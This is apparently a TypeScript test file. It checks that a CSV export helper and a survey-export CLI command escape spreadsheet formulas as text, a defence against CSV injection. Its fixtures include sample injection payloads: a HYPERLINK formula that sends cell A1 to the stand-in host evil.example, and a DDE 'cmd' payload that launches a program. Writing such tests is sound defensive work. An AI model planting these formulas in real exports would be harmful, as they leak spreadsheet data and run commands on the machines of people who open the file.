import { runCli } from "../../src/cli/index.js";
import { csvRecord } from "../../src/cli/format.js";
import { openSurvey, payResponse } from "../../src/features/surveys/escrow.js";
import type { PledgeTerms } from "../../src/store/bounties.js";
import { createTestDb, type TestDb } from "../support/databases.js";
import { silent } from "../support/payouts.js";

/**
 * CSV exports hold text people wrote (survey answers, comment bodies, logins, reasons). A field a
 * spreadsheet would evaluate as a formula is written as text (OWASP, CSV injection): a single quote
 * first, the field quoted. Numbers, negative ones included, stay numbers.
 */
describe("csvRecord", () => {
  test.each([
    ["=HYPERLINK(\"http://evil.example\",\"x\")", `"'=HYPERLINK(""http://evil.example"",""x"")"`],
    ["+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ["-2+3", `"'-2+3"`],
    ["@SUM(A1:A9)", `"'@SUM(A1:A9)"`],
    ["\t=1+2", `"'\t=1+2"`],
    ["\r=1+2", `"'\r=1+2"`],
    ["\n=1+2", `"'\n=1+2"`],
    ["-", `"'-"`],
    ["--5", `"'--5"`],
    ["-5e3", `"'-5e3"`],
  ])("%j is written as text", (field, written) => {
    expect(csvRecord([field])).toBe(written);
  });

  test.each([
    [-5000n, "-5000"],
    [-5000, "-5000"],
    ["-5000", "-5000"],
    ["-0.5", "-0.5"],
    [12, "12"],
    ["a=b", "a=b"],
    ["user@example.com", "user@example.com"],
    ["", ""],
    [null, ""],
    [undefined, ""],
  ])("%j is left as it is", (field, written) => {
    expect(csvRecord([field])).toBe(written);
  });

  test("RFC 4180 quoting stays: commas, quotes, line breaks; semicolons and tabs too (other locales' separators)", () => {
    expect(csvRecord(["a,b", 'say "hi"', "two\nlines", "x;=1+2", "x\ty", 7n])).toBe(`"a,b","say ""hi""","two\nlines","x;=1+2","x\ty",7`);
  });
});

describe("surveys export --csv", () => {
  let t: TestDb;
  beforeAll(async () => {
    t = await createTestDb("pglite");
  });
  afterAll(() => t.close());

  test("a response that is a formula is exported as text", async () => {
    const terms: PledgeTerms = { chargedUserId: 1, funderBudget: null, accountBudget: null, rates: {}, now: new Date() };
    const cause = { actor: { id: 1, login: "someone" }, deliveryId: "test" };
    const at = new Date("2026-05-04T10:11:12Z");
    const opened = await t.db.transaction((tx) =>
      openSurvey(
        tx,
        {
          openKey: "survey:9300", installationId: 1, repoId: 55, owner: "kubernetes", repo: "website", issueNumber: 8,
          surveyCommentId: 9300, author: { id: 5, login: "pat" }, audience: "anyone", amount: { currency: "BTC", minor: 10n }, sats: 10n,
          rate: null, slots: 1, payer: "treasury", minReplyChars: 5, minAccountAgeMs: 0, createdAt: at,
        },
        { terms, cause },
      ),
    );
    if (!opened.ok || !opened.survey) throw new Error("survey not opened");
    const body = '=HYPERLINK("http://evil.example/?"&A1,"details")';
    await t.db.transaction((tx) => payResponse(tx, opened.survey!.id, { responder: { id: 11, login: "ann" }, commentId: 9301, body, at, cause }));
    let out = "";
    const code = await runCli(["surveys", "export", "kubernetes/website#8", "--csv"], { env: {}, db: t.db, log: silent, stdout: { write: (s: string) => (out += s) }, stderr: { write: () => true } });
    expect(code).toBe(0);
    expect(out.split("\n")[1]).toBe(
      `${opened.survey.id},ann,11,2026-05-04T10:11:12.000Z,https://github.com/kubernetes/website/issues/8#issuecomment-9301,"'=HYPERLINK(""http://evil.example/?""&A1,""details"")"`,
    );
  });
});
